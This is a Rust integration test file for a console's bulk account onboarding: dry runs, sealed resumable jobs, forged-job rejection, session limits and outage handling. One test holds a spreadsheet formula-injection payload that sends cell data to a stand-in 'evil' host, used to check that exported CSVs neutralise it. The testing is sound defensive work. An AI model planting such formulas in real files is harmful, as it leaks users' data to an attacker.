//! Applying a file: the new accounts are made and their passwords shown once, the rest runs as a
//! job in the database, which only the reviewed calls leave, which another replica resumes, and
//! which never outlives its owner's sign-in.

use reqwest::{Method, StatusCode};

use super::{admins_dry_run, apply, dry_run, finished_job, reviewed, HEADER};
use crate::common::TestApp;

/// The address of the SQLite file of a console's activity log and jobs, in folder `dir`.
fn database_in(dir: &std::path::Path) -> String {
    format!("sqlite://{}/activity.db", dir.display())
}

/// A console whose activity log and jobs are in a SQLite file of its own (the file's address and
/// folder, to read it and remove it), configured further by `configure`.
async fn app_with_a_database_file(
    what: &str,
    configure: impl FnOnce(&mut server::Config),
) -> (TestApp, std::path::PathBuf, String) {
    let dir = std::env::temp_dir().join(format!("ks-console-{what}-{}", uuid::Uuid::new_v4()));
    let db = database_in(&dir);
    let app = TestApp::builder()
        .config({
            let db = db.clone();
            move |c| {
                c.activity_db = db;
                c.session_secret = Some(server::config::SecretText(JOB_SECRET.into()));
                configure(c);
            }
        })
        .start()
        .await;
    (app, dir, db)
}

/// A console whose replicas look for stopped jobs every second, with its SQLite file (its folder
/// and a pool on it); an admin's cookie and the key of that session (whose token a stored job
/// acts with).
async fn resuming_app(what: &str) -> (TestApp, std::path::PathBuf, sqlx::SqlitePool, String, String) {
    resuming_app_with(what, |_| {}).await
}

/// A `resuming_app`, configured further by `configure`.
async fn resuming_app_with(
    what: &str,
    configure: impl FnOnce(&mut server::Config),
) -> (TestApp, std::path::PathBuf, sqlx::SqlitePool, String, String) {
    let (app, dir, db) = app_with_a_database_file(what, |c| {
        c.bulk_resume_secs = 1;
        configure(c);
    })
    .await;
    let cookie = app.login("admin").await;
    // Reading the log waits for the tables; the session's token is in the vault.
    assert_eq!(app.submit(&cookie, "list_activity", &[]).await.0, StatusCode::OK);
    let session_key = app.memory.tokens.keys().pop().expect("a signed-in session");
    let pool = sqlx::SqlitePool::connect(&db).await.unwrap();
    (app, dir, pool, cookie, session_key)
}

/// The `SESSION_SECRET` of the consoles whose jobs the tests resume: another replica has it too.
const JOB_SECRET: &str = "the-secret-every-replica-of-these-tests-shares";

/// A job as another replica stored it, sealed with the replicas' secret (its lease lapsed at
/// `lease_until_ms` unless in the future).
async fn insert_job(
    pool: &sqlx::SqlitePool,
    id: &str,
    session_key: &str,
    rows: &serde_json::Value,
    reviewed: Option<&serde_json::Value>,
    lease_until_ms: i64,
) {
    let (rows, reviewed) = (rows.to_string(), reviewed.map(ToString::to_string));
    let (seal, session_seal) =
        server::jobs::sealed_columns_for(JOB_SECRET, id, ("admin", &rows, reviewed.as_deref()), session_key).unwrap();
    sqlx::query(
        "INSERT INTO bulk_jobs (id, owner, session_key, created_ms, state, message, rows_json, reviewed_json, \
         lease_owner, lease_until_ms, seal, session_seal) \
         VALUES (?, 'admin', '', 0, 'running', NULL, ?, ?, 'another-replica', ?, ?, ?)",
    )
    .bind(id)
    .bind(rows)
    .bind(reviewed)
    .bind(lease_until_ms)
    .bind(seal)
    .bind(session_seal)
    .execute(pool)
    .await
    .unwrap();
}

#[tokio::test]
async fn the_result_file_writes_a_would_be_formula_as_text_and_kubesphere_gets_it_as_typed() {
    let evil = r#"=HYPERLINK("https://evil/?"&A2,"details")"#;
    let (app, cookie, csv, run) =
        admins_dry_run(&format!("mei,mei@example.com,\"{}\",,demo,regular,,,", evil.replace('"', "\"\""))).await;
    let (status, html) = apply(&app, &cookie, &csv, &reviewed(&run), false).await;
    assert_eq!(status, StatusCode::OK, "{html}");
    let page = finished_job(&app, &cookie, &html).await;
    let marker = "href=\"data:text/csv;charset=utf-8,";
    let start = page.find(marker).expect("a result file") + marker.len();
    let encoded = &page[start..start + page[start..].find('"').unwrap()];
    let file = percent_encoding::percent_decode_str(encoded).decode_utf8().unwrap().replace("&amp;", "&");
    let row = file.lines().nth(1).unwrap();
    assert!(row.starts_with(r#"mei,mei@example.com,"'=HYPERLINK(""https://evil/?""&A2,""details"")","#), "{row}");
    let user = app.upstream_get("/kapis/iam.kubesphere.io/v1beta1/users/mei").await;
    assert_eq!(user["metadata"]["annotations"]["kubesphere.io/alias-name"], evil, "sent as typed");
}

#[tokio::test]
async fn apply_makes_the_accounts_shows_their_passwords_once_and_runs_the_rest_as_a_job() {
    let (app, dir, db) = app_with_a_database_file("bulk", |_| {}).await;
    let cookie = app.login("admin").await;
    let csv = format!(
        "{HEADER}
mei,mei@example.com,Mei Chen,,demo,regular,,,
mei,,,,demo,,host,demo-web,viewer
omar,omar@example.com,,,team-b,viewer,,,
frank,,,,demo,viewer,,,
zed,zed@example.com,,,demo,auditor,,,
"
    );
    let (_, run) = dry_run(&app, &cookie, &csv).await;
    assert!(run.contains("Apply the 4 accepted rows"), "{run}");
    let plan = reviewed(&run);
    app.sim.sim.reset_journal();
    // As a browser sends it: line breaks as CRLF.
    let (status, html) = apply(&app, &cookie, &csv, &plan.replace('\n', "\r\n"), false).await;
    assert_eq!(status, StatusCode::OK, "{html}");
    assert!(html.contains("2 new accounts made."), "{html}");
    let password_of = |user: &str| {
        let cell = format!("<td data-label=\"Username\">{user}</td><td data-label=\"Password\"><code>");
        let start = html.find(&cell).unwrap_or_else(|| panic!("{user}'s password is shown")) + cell.len();
        html[start..start + html[start..].find('<').unwrap()].to_owned()
    };
    let (mei, omar) = (password_of("mei"), password_of("omar"));
    let page = finished_job(&app, &cookie, &html).await;
    assert!(page.contains("Done: all 4 rows applied."), "{page}");

    let mut writes: Vec<String> = writes_with_bodies(&app);
    writes.sort();
    assert_eq!(writes.len(), 6, "{writes:#?}");
    assert_eq!(writes.iter().filter(|w| w.starts_with("POST /kapis/iam.kubesphere.io/v1beta1/users ")).count(), 2);
    assert!(writes.iter().any(|w| w.contains("/workspaces/demo/workspacemembers")
        && w.contains(r#""roleRef":"demo-regular","username":"mei""#)
        || w.contains(r#"{"username":"mei","roleRef":"demo-regular"}"#)));
    let frank_invited = |w: &String| {
        w.starts_with("POST /kapis/iam.kubesphere.io/v1beta1/workspaces/demo/workspacemembers ")
            && w.contains("frank")
            && w.contains("demo-viewer")
    };
    assert!(writes.iter().any(frank_invited), "{writes:#?}");
    for (user, password) in [("mei", &mei), ("omar", &omar)] {
        assert_eq!(app.login_response(user, password, true).await.status(), StatusCode::OK, "{user}'s password works");
    }

    // Applying the same file again changes nothing, and says so.
    app.sim.sim.reset_journal();
    let (_, again) = dry_run(&app, &cookie, &csv).await;
    assert!(again.contains("5 rows: 0 will send changes, 4 are in place already, 1 cannot be done."), "{again}");
    assert!(!again.contains("Apply the"));
    assert!(app.sim.sim.journal().iter().all(|e| e.method == "GET"));

    // The passwords are nowhere in the database: not in the job, not in the activity log.
    let pool = sqlx::SqlitePool::connect(&db).await.unwrap();
    for table in ["bulk_jobs", "bulk_job_results", "activity"] {
        let rows: Vec<(String,)> = sqlx::query_as(&format!(
            "SELECT CAST(({}) AS TEXT) FROM {table}",
            match table {
                "bulk_jobs" => "id || owner || rows_json || state",
                "bulk_job_results" => "outcome || message",
                _ => "actor || action || COALESCE(target_user, '') || COALESCE(message, '')",
            }
        ))
        .fetch_all(&pool)
        .await
        .unwrap();
        assert!(!rows.is_empty(), "{table} has rows");
        for (text,) in rows {
            assert!(!text.contains(&mei) && !text.contains(&omar), "a password in {table}");
        }
    }
    std::fs::remove_dir_all(dir).ok();
}

#[tokio::test]
async fn apply_sends_nothing_the_dry_run_did_not_show_and_admin_roles_need_the_confirmation() {
    let (app, cookie, csv, run) = admins_dry_run("frank,,,,demo,admin,,,").await;
    assert!(run.contains("Yes, grant the 1 admin roles listed above."), "{run}");
    let plan = reviewed(&run);
    app.sim.sim.reset_journal();
    let (status, html) = apply(&app, &cookie, &csv, &plan, false).await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert!(html.contains("Confirm the admin roles listed above before applying."), "{html}");
    let (_, html) = apply(&app, &cookie, &csv, "1: something else", true).await;
    assert!(html.contains("nothing was sent. Here is the new dry run."), "{html}");
    assert!(app.sim.sim.journal().iter().all(|e| e.method == "GET"), "nothing was sent");
    let (_, html) = apply(&app, &cookie, &csv, &plan, true).await;
    let page = finished_job(&app, &cookie, &html).await;
    assert!(page.contains("Done: all 1 rows applied."), "{page}");
    // Someone else cannot read the job.
    let path = crate::shared::job_link(&html);
    let alice = app.login("alice").await;
    let res = app.get(&alice, path).await;
    assert_eq!(res.status(), StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn a_job_whose_replica_stopped_is_resumed_from_where_it_was() {
    let (app, dir, pool, cookie, session_key) = resuming_app("resume").await;

    // A job as another replica left it: it held the lease (now lapsed), and it had finished
    // line 2 (recorded as done) but not lines 3 and 4.
    let rows = stored_rows(&[
        (2, "frank,,,,team-b,viewer,,,"),
        (3, "frank,,,,demo,regular,,,"),
        (4, "frank,,,,demo,,host,demo-web,viewer"),
    ]);
    // This console may resume the job as soon as it is stored: what it sends is counted from here.
    app.sim.sim.reset_journal();
    insert_job(&pool, "stopped-job", &session_key, &rows, None, 1).await;
    line_2_done(&pool, "stopped-job").await;
    // And one another replica is running right now (its lease is current): its page shows the
    // live bar (an island; the page refreshes itself only without scripts), which asks for a
    // few numbers, and only its owner may.
    insert_job(&pool, "held-job", &session_key, &rows, None, 9_000_000_000_000).await;
    line_2_done(&pool, "held-job").await;
    let (status, progress) = app.submit(&cookie, "bulk_job_progress", &[("id", "held-job")]).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(progress, serde_json::json!({"finished": 1, "total": 3, "running": true}));
    let held = app.page(&cookie, "/onboard/bulk/jobs/held-job").await;
    assert!(held.contains("<leptos-island") && held.contains("LiveProgress") && held.contains(".wasm"), "{held}");
    assert!(
        held.contains(r#"<noscript><meta http-equiv="refresh" content="2"/></noscript>"#)
            || held.contains(r#"<noscript><meta http-equiv="refresh" content="2"></noscript>"#),
        "{held}"
    );
    assert!(held.contains("Applying: 1 of 3 rows done."));
    let other = app.login("carol").await;
    assert_eq!(app.submit(&other, "bulk_job_progress", &[("id", "held-job")]).await.0, StatusCode::NOT_FOUND);

    let page = finished_job(&app, &cookie, "href=\"/onboard/bulk/jobs/stopped-job\"").await;
    assert!(page.contains("Done: all 3 rows applied."), "{page}");
    // Sent since the jobs were stored, carol's sign-in aside: none of the held job's rows.
    let writes: Vec<String> =
        app.upstream_changes().into_iter().map(|(method, path, _)| format!("{method} {path}")).collect();
    assert_eq!(
        writes,
        [
            "POST /kapis/iam.kubesphere.io/v1beta1/workspaces/demo/workspacemembers",
            "POST /clusters/host/kapis/iam.kubesphere.io/v1beta1/namespaces/demo-web/namespacemembers",
        ],
        "only the rows left were sent"
    );
    std::fs::remove_dir_all(dir).ok();
}

/// A job's rows as a replica stores them: each its line number in the file and that line
/// (`username,email,display_name,platform_role,workspace,workspace_role,cluster,project,project_role`).
fn stored_rows(rows: &[(u32, &str)]) -> serde_json::Value {
    use app::bulk::COLUMNS;
    let row = |(line, csv): &(u32, &str)| {
        let values: Vec<&str> = csv.split(',').collect();
        assert_eq!(values.len(), COLUMNS.len(), "{csv}");
        let mut row = serde_json::Map::from_iter([("line".to_owned(), serde_json::Value::from(*line))]);
        row.extend(COLUMNS.iter().zip(values).map(|(column, value)| ((*column).to_owned(), value.into())));
        serde_json::Value::Object(row)
    };
    rows.iter().map(row).collect()
}

/// Runs one statement on a console's database, as a test arranges what another replica left.
async fn execute(pool: &sqlx::SqlitePool, sql: &str) {
    sqlx::query(sql).execute(pool).await.unwrap();
}

/// Another replica finished line 2 of job `id` (which invites frank to team-b).
async fn line_2_done(pool: &sqlx::SqlitePool, id: &str) {
    sqlx::query(
        "INSERT INTO bulk_job_results (job_id, seq, line, outcome, message) \
         VALUES (?, 0, 2, 'done', 'invite frank to workspace team-b as team-b-viewer')",
    )
    .bind(id)
    .execute(pool)
    .await
    .unwrap();
}

/// What KubeSphere was sent (anything but reads), as `METHOD path body`.
fn writes_with_bodies(app: &TestApp) -> Vec<String> {
    let body = |e: &ks_sim::JournalEntry| e.body.as_ref().map(ToString::to_string).unwrap_or_default();
    app.writes().iter().map(|e| format!("{} {} {}", e.method, e.path, body(e))).collect()
}

/// A job's page as a reader in `lang` sees it.
async fn job_page_in(app: &TestApp, cookie: &str, id: &str, lang: &str) -> String {
    let cookie = format!("{cookie}; i18n_pref_locale={lang}");
    let path = format!("/onboard/bulk/jobs/{id}");
    app.page(&cookie, &path).await
}

#[tokio::test]
async fn a_jobs_results_read_in_the_readers_language_old_results_as_they_were_written() {
    let (app, dir, db) = app_with_a_database_file("typed", |_| {}).await;
    let cookie = app.login("admin").await;
    let csv = format!("{HEADER}\nfrank,,,,demo,viewer,,,\nfrank,,,,team-b,viewer,,,\n");
    let (_, run) = dry_run(&app, &cookie, &csv).await;
    let plan = reviewed(&run);
    let team_b = "/kapis/iam.kubesphere.io/v1beta1/workspaces/team-b/workspacemembers";
    app.sim.sim.inject(ks_sim::Fault::status(team_b, 403, None).method("POST").times(1));
    let (_, html) = apply(&app, &cookie, &csv, &plan, false).await;
    let page = finished_job(&app, &cookie, &html).await;
    let start = page.find("onboarding-result-").unwrap() + "onboarding-result-".len();
    let id = page[start..start + page[start..].find(".csv").unwrap()].to_owned();

    let en = job_page_in(&app, &cookie, &id, "en").await;
    assert!(en.contains("Done: invite frank to workspace demo as demo-viewer"), "{en}");
    assert!(en.contains("Failed: KubeSphere does not allow you to do this."), "{en}");
    let zh = job_page_in(&app, &cookie, &id, "zh").await;
    assert!(zh.contains("邀请 frank 加入企业空间 demo，角色为 demo-viewer"), "the same rows in Chinese: {zh}");
    assert!(!zh.contains("KubeSphere does not allow you to do this."), "{zh}");

    // A result stored before outcomes were typed keeps the words it was written in.
    let pool = sqlx::SqlitePool::connect(&db).await.unwrap();
    sqlx::query(
        "UPDATE bulk_job_results SET outcome_json = NULL, message = 'written long ago' WHERE job_id = ? AND line = 2",
    )
    .bind(&id)
    .execute(&pool)
    .await
    .unwrap();
    assert!(job_page_in(&app, &cookie, &id, "zh").await.contains("written long ago"));

    // The activity log too: the failed change's reason in the reader's language, an entry
    // stored before reasons were typed in its own words.
    let zh_cookie = format!("{cookie}; i18n_pref_locale=zh");
    let log = app.page(&zh_cookie, "/activity").await;
    assert!(log.contains("KubeSphere 不允许您执行此操作"), "the reason in Chinese: {log}");
    execute(&pool, "UPDATE activity SET reason_json = NULL, message = 'said long ago' WHERE outcome = 'failed'").await;
    let log = app.page(&zh_cookie, "/activity").await;
    assert!(log.contains("said long ago"), "{log}");
    std::fs::remove_dir_all(dir).ok();
}

#[tokio::test]
async fn a_job_sends_only_the_reviewed_calls_and_never_an_unreviewed_role_change() {
    let (app, dir, pool, cookie, session_key) = resuming_app("exact").await;
    // Reviewed: invite carol to demo as demo-regular. Meanwhile carol is in demo as demo-viewer
    // (the seed): sending now would be a role change nobody reviewed.
    let rows = stored_rows(&[(2, "carol,,,,demo,regular,,,"), (3, "frank,,,,demo,regular,,,")]);
    let reviewed = serde_json::json!([
        [2, [{"InviteToWorkspace": {"user": "carol", "workspace": "demo", "role": "demo-regular"}}]],
        [3, [{"InviteToWorkspace": {"user": "frank", "workspace": "demo", "role": "demo-regular"}}]]
    ]);
    insert_job(&pool, "exact-job", &session_key, &rows, Some(&reviewed), 1).await;
    app.sim.sim.reset_journal();
    let page = finished_job(&app, &cookie, "href=\"/onboard/bulk/jobs/exact-job\"").await;
    assert!(
        page.contains("this row&#x27;s calls are not the ones reviewed any more")
            || page.contains("this row's calls are not the ones reviewed any more"),
        "{page}"
    );
    let writes: Vec<String> = writes_with_bodies(&app);
    assert_eq!(writes.len(), 1, "only frank's reviewed invitation: {writes:#?}");
    assert!(writes[0].contains("frank") && !writes.iter().any(|w| w.contains("carol")));
    std::fs::remove_dir_all(dir).ok();
}

#[tokio::test]
async fn a_job_inserted_or_edited_in_the_database_is_never_run_and_an_ended_one_keeps_no_session() {
    let (app, dir, pool, cookie, session_key) = resuming_app("sealed").await;
    let rows = stored_rows(&[(2, "frank,,,platform-admin,demo,admin,,,")]);
    // Hand-inserted, as the previous version stored jobs: plain columns, the session key in clear.
    sqlx::query(
        "INSERT INTO bulk_jobs (id, owner, session_key, created_ms, state, message, rows_json, lease_owner, \
         lease_until_ms) VALUES ('forged-job', 'admin', ?, 0, 'running', NULL, ?, 'another-replica', 1)",
    )
    .bind(&session_key)
    .bind(rows.to_string())
    .execute(&pool)
    .await
    .unwrap();
    // Sealed by a replica, then its seal edited.
    insert_job(&pool, "edited-job", &session_key, &rows, None, 9_000_000_000_000).await;
    execute(&pool, "UPDATE bulk_jobs SET seal = 'A' || substr(seal, 2), lease_until_ms = 1 WHERE id = 'edited-job'")
        .await;
    app.sim.sim.reset_journal();
    for job in ["forged-job", "edited-job"] {
        let page = finished_job(&app, &cookie, &format!("href=\"/onboard/bulk/jobs/{job}\"")).await;
        assert!(page.contains("does not open with this console"), "{job}: {page}");
    }
    assert!(app.sim.sim.journal().iter().all(|e| e.method == "GET"), "nothing was sent for either");
    // Ended jobs keep no session to act with.
    let kept: Vec<(String, String, Option<String>)> =
        sqlx::query_as("SELECT id, session_key, session_seal FROM bulk_jobs").fetch_all(&pool).await.unwrap();
    assert!(kept.iter().all(|(_, key, seal)| key.is_empty() && seal.is_none()), "{kept:?}");
    std::fs::remove_dir_all(dir).ok();
}

#[tokio::test]
async fn a_job_never_outlives_its_owners_sign_in() {
    let (app, dir, pool, _cookie, session_key) =
        resuming_app_with("lifetime", |c| c.session_max_lifetime_secs = 2).await;
    let rows = stored_rows(&[(2, "frank,,,,demo,viewer,,,")]);
    // Held by another replica until the sign-in is past its lifetime, then left.
    insert_job(&pool, "late-job", &session_key, &rows, None, 9_000_000_000_000).await;
    tokio::time::sleep(std::time::Duration::from_millis(2100)).await;
    execute(&pool, "UPDATE bulk_jobs SET lease_until_ms = 1 WHERE id = 'late-job'").await;
    app.sim.sim.reset_journal();
    for _ in 0..100 {
        let state: (String,) =
            sqlx::query_as("SELECT state FROM bulk_jobs WHERE id = 'late-job'").fetch_one(&pool).await.unwrap();
        if state.0 != "running" {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    let (state, stop): (String, Option<String>) =
        sqlx::query_as("SELECT state, stop_json FROM bulk_jobs WHERE id = 'late-job'").fetch_one(&pool).await.unwrap();
    assert_eq!(state, "stopped");
    assert!(stop.unwrap_or_default().contains("SessionEnded"));
    assert!(app.sim.sim.journal().iter().all(|e| e.method == "GET"), "nothing sent past the sign-in's lifetime");
    std::fs::remove_dir_all(dir).ok();
}

#[tokio::test]
async fn finished_jobs_are_pruned_after_the_retention() {
    let (app, dir, pool, _cookie, _key) = resuming_app("prune").await;
    for (id, ended) in [("old-job", 1_i64), ("new-job", i64::MAX / 2)] {
        sqlx::query(
            "INSERT INTO bulk_jobs (id, owner, session_key, created_ms, state, message, rows_json, lease_owner, \
             lease_until_ms, ended_ms) VALUES (?, 'admin', '', 0, 'done', NULL, '[]', NULL, 0, ?)",
        )
        .bind(id)
        .bind(ended)
        .execute(&pool)
        .await
        .unwrap();
    }
    drop(app);
    // The next console on this database prunes as it starts, then hourly.
    let _again = TestApp::builder().config(|c| c.activity_db = database_in(&dir)).start().await;
    let mut left: Vec<(String,)> = Vec::new();
    for _ in 0..50 {
        left = sqlx::query_as("SELECT id FROM bulk_jobs").fetch_all(&pool).await.unwrap();
        if left.len() == 1 {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    assert_eq!(left, [("new-job".to_owned(),)]);
    std::fs::remove_dir_all(dir).ok();
}

#[tokio::test]
async fn a_plain_form_posted_to_apply_is_not_run_so_no_password_lands_in_the_session() {
    let (app, cookie, csv, run) = admins_dry_run("mei,mei@example.com,,,demo,regular,,,").await;
    let plan = reviewed(&run);
    app.sim.sim.reset_journal();
    for (path, form) in [
        ("/api/bulk_apply", vec![("csv", csv.as_str()), ("reviewed", plan.as_str())]),
        ("/api/onboard", vec![("input[username]", "mei"), ("input[email]", "mei@example.com"), ("apply", "true")]),
    ] {
        let res = app
            .request(Method::POST, path, Some(&cookie))
            .header("accept", "text/html,application/xhtml+xml")
            .header("referer", format!("{}/onboard/bulk", app.url))
            .form(&form)
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), StatusCode::BAD_REQUEST, "{path}");
        assert!(res.text().await.unwrap().contains("nothing was sent"), "{path} says why");
    }
    assert!(app.sim.sim.journal().iter().all(|e| e.method == "GET"), "nothing was run");
}

#[tokio::test]
async fn with_the_database_down_an_apply_is_refused_before_any_account_is_made() {
    let port = crate::common::free_port();
    let app = TestApp::builder()
        .config(move |c| c.activity_db = format!("postgres://ks:ks@127.0.0.1:{port}/nothing-listens-here"))
        .start()
        .await;
    let cookie = app.login("admin").await;
    let csv = format!("{HEADER}\nmei,mei@example.com,,,demo,regular,,,\n");
    let (_, run) = dry_run(&app, &cookie, &csv).await;
    app.sim.sim.reset_journal();
    let (status, html) = apply(&app, &cookie, &csv, &reviewed(&run), false).await;
    assert_eq!(status, StatusCode::SERVICE_UNAVAILABLE, "{html}");
    assert!(app.sim.sim.journal().iter().all(|e| e.method == "GET"), "no account was made, so no password was lost");
}

#[tokio::test]
async fn kubesphere_away_pauses_a_job_and_its_rows_are_sent_when_it_is_back() {
    let (app, dir, pool, cookie, session_key) = resuming_app("pause").await;
    let rows = stored_rows(&[(2, "frank,,,,demo,viewer,,,")]);
    let members = "/kapis/iam.kubesphere.io/v1beta1/workspaces/demo/workspacemembers";
    app.sim.sim.inject(ks_sim::Fault::status(members, 503, None).method("POST").times(1));
    insert_job(&pool, "paused-job", &session_key, &rows, None, 1).await;
    let page = finished_job(&app, &cookie, "href=\"/onboard/bulk/jobs/paused-job\"").await;
    assert!(page.contains("Done: all 1 rows applied.") || page.contains("Done: all 1 row applied."), "{page}");
    let posts: Vec<u16> = app
        .sim
        .sim
        .journal()
        .into_iter()
        .filter(|e| e.method == "POST" && e.path == members)
        .map(|e| e.status)
        .collect();
    assert_eq!(posts, [503, 200], "paused on the 503, sent again once back; the row is not failed");
    let failed: (i64,) =
        sqlx::query_as("SELECT failed_runs FROM bulk_jobs WHERE id = 'paused-job'").fetch_one(&pool).await.unwrap();
    assert_eq!(failed.0, 0, "KubeSphere being away is not a failed run");
    std::fs::remove_dir_all(dir).ok();
}

#[tokio::test]
async fn a_job_refused_its_reads_ends_and_one_that_keeps_failing_ends_after_five_runs() {
    let (app, dir, pool, cookie, session_key) = resuming_app("ends").await;
    let rows = stored_rows(&[(2, "frank,,,,demo,viewer,,,")]);
    let state = |id: &'static str| {
        let pool = pool.clone();
        async move {
            for _ in 0..450 {
                let (state, stop): (String, Option<String>) =
                    sqlx::query_as("SELECT state, stop_json FROM bulk_jobs WHERE id = ?")
                        .bind(id)
                        .fetch_one(&pool)
                        .await
                        .unwrap();
                if state != "running" {
                    return stop.unwrap_or_default();
                }
                tokio::time::sleep(std::time::Duration::from_millis(100)).await;
            }
            panic!("{id} did not end");
        }
    };
    let users = "/kapis/iam.kubesphere.io/v1beta1/users";
    app.sim.sim.reset_journal();
    // 403 on what the plan reads: the owner may no longer; the job ends at once.
    app.sim.sim.inject(ks_sim::Fault::status(users, 403, None).method("GET"));
    insert_job(&pool, "refused-job", &session_key, &rows, None, 1).await;
    assert!(state("refused-job").await.contains("Refused"));
    app.sim.sim.clear_faults();
    // 400 every time: a failed run, tried again after a pause, five times, then it ends.
    app.sim.sim.inject(ks_sim::Fault::status(users, 400, None).method("GET"));
    insert_job(&pool, "failing-job", &session_key, &rows, None, 1).await;
    assert!(state("failing-job").await.contains("KeptFailing"));
    let writes: Vec<String> = app.sim.sim.journal().into_iter().filter(|e| e.method != "GET").map(|e| e.path).collect();
    assert!(writes.is_empty(), "neither sent anything: {writes:?}");
    let _ = cookie;
    std::fs::remove_dir_all(dir).ok();
}
